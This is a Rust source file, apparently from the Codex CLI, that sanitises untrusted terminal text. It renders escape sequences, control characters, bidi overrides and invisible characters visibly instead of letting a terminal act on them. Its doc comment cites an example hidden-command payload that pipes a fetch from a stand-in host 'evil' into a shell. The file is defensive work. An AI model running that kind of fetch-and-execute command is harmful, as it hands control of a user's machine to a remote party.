//! Making untrusted text safe for a terminal without hiding any of it.
//!
//! Everything Codex prints (messages, command output, file names, thread ids) comes from a
//! model or from commands it ran, and may carry escape sequences that move the cursor, retitle
//! the window or write the clipboard, or invisible characters that reorder or hide what a
//! reader sees (`echo x<U+009D>; curl evil | sh`, a right-to-left override in a command). Two
//! promises hold for every function here: the result contains no ESC, no other control
//! character but `\n` (and `\t` where kept), no C1 control, no bidi control and no invisible
//! formatting character; and no text is lost — whatever a terminal would have swallowed is
//! shown, with `␛` for ESC, Unicode control pictures (`␇`, `␘`) for C0 controls and `<U+202E>`
//! for the invisible ones.
//!
//! Where an escape sequence ends is decided by `vte`, the parser Alacritty uses, so the answer
//! matches a real terminal's, including its odd corners (CAN/SUB abort a sequence, ESC ends an
//! OSC string, SOS/PM/APC strings). Only one kind of sequence is dropped rather than shown: a
//! complete, plain CSI (`ESC [ 31 m`, `ESC [ 2 K`) and the charset and cursor-save escapes
//! coloured tool output is full of — they carry no text. [`literal`] drops nothing at all and is
//! for what must read exactly as it will run: commands, paths, ids.

use vte::{Params, Parser, Perform};

/// For display: sequences shown or dropped as described above; tabs become 4 spaces; `\r` goes.
pub fn sanitize(input: &str) -> String {
    filter(input, Mode::Display)
}

/// Like [`sanitize`] but keeps tabs: for text that is stored or handed on (a model's reply,
/// command output), not drawn yet. Cheap when there is nothing to do.
pub fn clean(input: &str) -> String {
    filter(input, Mode::Stored)
}

/// Nothing dropped, not even a colour code or `\r`: every control, escape and invisible
/// character is shown. For what a person approves or copies: commands, paths, ids.
pub fn literal(input: &str) -> String {
    filter(input, Mode::Literal)
}

/// Bytes that ought to be text (a file name, a link target), for display: the UTF-8 runs go
/// through [`literal`], every byte that is not UTF-8 is shown as `\xNN`. Nothing is guessed or
/// replaced.
pub fn bytes_literal(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        out.push_str(&literal(chunk.valid()));
        for b in chunk.invalid() {
            out.push_str(&format!("\\x{b:02X}"));
        }
    }
    out
}

/// One line for a log-style display: sanitized, newlines shown as `⏎`, cut to `max` chars.
pub fn one_line(input: &str, max: usize) -> String {
    let clean = sanitize(input.trim());
    let mut out: String = clean
        .chars()
        .map(|c| if c == '\n' { '⏎' } else { c })
        .take(max)
        .collect();
    if clean.chars().count() > max {
        out.push('…');
    }
    out
}

/// Whether `c` would be shown as a placeholder: a control character (C0, DEL, C1) other than
/// newline and tab, or one of the invisible characters in [`is_invisible`].
pub fn is_unsafe(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || is_invisible(c)
}

/// Characters that draw nothing but change what is seen: bidi embeddings, overrides and
/// isolates; zero-width spaces and joiners; the soft hyphen; word joiners and invisible
/// operators; the BOM; interlinear annotations; line and paragraph separators; Hangul
/// fillers; Mongolian vowel separator; tag characters (used to smuggle invisible ASCII).
pub fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{034F}'
            | '\u{061C}'
            | '\u{115F}'..='\u{1160}'
            | '\u{17B4}'..='\u{17B5}'
            | '\u{180B}'..='\u{180F}'
            | '\u{200B}'..='\u{200F}'
            | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}'
            | '\u{3164}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF9}'..='\u{FFFB}'
            | '\u{E0000}'..='\u{E007F}'
    )
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Mode {
    Display,
    Stored,
    Literal,
}

/// [`sanitize`], telling `silent` of each sequence it drops, with the text so far: the
/// caller may take that text and act on the sequence (a colour code becomes a style).
pub fn sanitize_with(input: &str, silent: &mut dyn FnMut(&mut String, &str)) -> String {
    filter_with(input, Mode::Display, silent)
}

/// Where an escape sequence starts that `input` ends before finishing (more may complete it).
pub fn open_sequence(input: &str) -> Option<usize> {
    // Sequences as `filter` meets them: an ESC inside one belongs to it or starts the next.
    let bytes = input.as_bytes();
    let mut last = None;
    let mut i = 0;
    while let Some(off) = input.get(i..).and_then(|rest| rest.find('\x1b')) {
        let at = i + off;
        let end = sequence_end(bytes, at);
        last = Some((at, end));
        i = end.max(at + 1);
    }
    let (at, end) = last?;
    if end < input.len() {
        return None;
    }
    // One more byte tells a sequence that ends with the input from one that runs on.
    let mut probe = bytes[at..].to_vec();
    probe.push(b'x');
    (sequence_end(&probe, 0) == probe.len()).then_some(at)
}

fn filter(input: &str, mode: Mode) -> String {
    filter_with(input, mode, &mut |_, _| {})
}

fn filter_with(input: &str, mode: Mode, silent: &mut dyn FnMut(&mut String, &str)) -> String {
    let Some(first) = input.find(|c: char| is_unsafe(c) || (c == '\t' && mode == Mode::Display))
    else {
        return input.to_string();
    };
    let mut out = String::with_capacity(input.len() + input.len() / 8);
    out.push_str(&input[..first]);
    let bytes = input.as_bytes();
    let mut i = first;
    while i < input.len() {
        if bytes[i] == 0x1b && mode != Mode::Literal {
            // Sequence ends are ASCII bytes or the end of input: always char boundaries.
            let end = sequence_end(bytes, i);
            let span = &input[i..end];
            if is_silent(span) {
                silent(&mut out, span);
            } else {
                for c in span.chars() {
                    push(&mut out, c, Mode::Literal, true);
                }
            }
            i = end;
            continue;
        }
        let c = input[i..].chars().next().unwrap_or('\u{fffd}');
        push(&mut out, c, mode, false);
        i += c.len_utf8();
    }
    out
}

/// Appends `c` as it should be seen. Inside a shown escape sequence (`in_sequence`) newlines
/// stay newlines so a runaway OSC string still reads as the text it swallowed.
fn push(out: &mut String, c: char, mode: Mode, in_sequence: bool) {
    match c {
        '\n' => out.push('\n'),
        '\t' if mode == Mode::Display => out.push_str("    "),
        '\t' => out.push('\t'),
        '\r' if mode != Mode::Literal && !in_sequence => {}
        '\u{7f}' => out.push('\u{2421}'),
        c if (c as u32) < 0x20 => out.push(char::from_u32(0x2400 + c as u32).unwrap_or('?')),
        c if is_unsafe(c) => {
            use std::fmt::Write;
            let _ = write!(out, "<U+{:04X}>", c as u32);
        }
        c => out.push(c),
    }
}

/// Sequences that carry no text and are dropped outside [`literal`]: a complete plain CSI
/// (parameters, intermediates, one final byte; the kind coloured output and progress bars
/// use), charset designations (`ESC ( B`) and `ESC 7` / `ESC 8` / `ESC =` / `ESC >`.
fn is_silent(span: &str) -> bool {
    let b = span.as_bytes();
    match b {
        [0x1b, b'[', rest @ .., last] if b.len() <= 64 && (0x40..=0x7e).contains(last) => {
            let params = rest
                .iter()
                .take_while(|b| (0x30..=0x3f).contains(*b))
                .count();
            rest[params..].iter().all(|b| (0x20..=0x2f).contains(b))
        }
        [0x1b, b'(' | b')' | b'*' | b'+', 0x30..=0x7e] => true,
        [0x1b, b'7' | b'8' | b'=' | b'>'] => true,
        _ => false,
    }
}

/// Where the escape sequence starting at `start` (an ESC) ends, exclusive, as a terminal would
/// parse it; the end of input if it never ends. Bytes of multi-byte characters are never fed
/// to the parser — no terminal state reacts to them in UTF-8 mode except the DCS's 8-bit ST,
/// which could otherwise end a sequence in the middle of a character — so they simply belong
/// to the sequence they occur in.
fn sequence_end(bytes: &[u8], start: usize) -> usize {
    let mut parser: Parser = Parser::new();
    let mut ends = Ends::default();
    parser.advance(&mut ends, &[0x1b]);
    // vte leaves an ignored CSI (too many parameters, a misplaced private marker) without a
    // callback, so track whether we are in a CSI: its final byte ends it either way.
    let (mut after_esc, mut in_csi) = (true, false);
    for (j, &b) in bytes.iter().enumerate().skip(start + 1) {
        if b >= 0x80 {
            continue;
        }
        ends.end = None;
        parser.advance(&mut ends, &[b]);
        match ends.end {
            Some(End::Through) => return j + 1,
            Some(End::Before) => return j,
            None => {}
        }
        if b == 0x1b {
            (after_esc, in_csi) = (true, false);
        } else if after_esc && !is_c0(b) && b != 0x7f {
            after_esc = false;
            in_csi = b == b'[';
        } else if in_csi && (0x40..=0x7e).contains(&b) {
            return j + 1;
        }
    }
    bytes.len()
}

fn is_c0(b: u8) -> bool {
    b < 0x20
}

enum End {
    /// The byte just fed is the sequence's last.
    Through,
    /// The byte just fed is not part of the sequence (an ESC starting the next one, CAN/SUB).
    Before,
}

/// A `vte` performer that only notes where sequences end.
#[derive(Default)]
struct Ends {
    end: Option<End>,
}

impl Perform for Ends {
    fn execute(&mut self, byte: u8) {
        if matches!(byte, 0x18 | 0x1a) {
            self.end = Some(End::Before);
        }
    }

    fn unhook(&mut self) {
        self.end = Some(End::Before);
    }

    fn osc_dispatch(&mut self, _params: &[&[u8]], bell_terminated: bool) {
        self.end = Some(if bell_terminated {
            End::Through
        } else {
            End::Before
        });
    }

    fn csi_dispatch(&mut self, _: &Params, _: &[u8], _: bool, _: char) {
        self.end = Some(End::Through);
    }

    fn esc_dispatch(&mut self, _: &[u8], _: bool, _: u8) {
        self.end = Some(End::Through);
    }
}
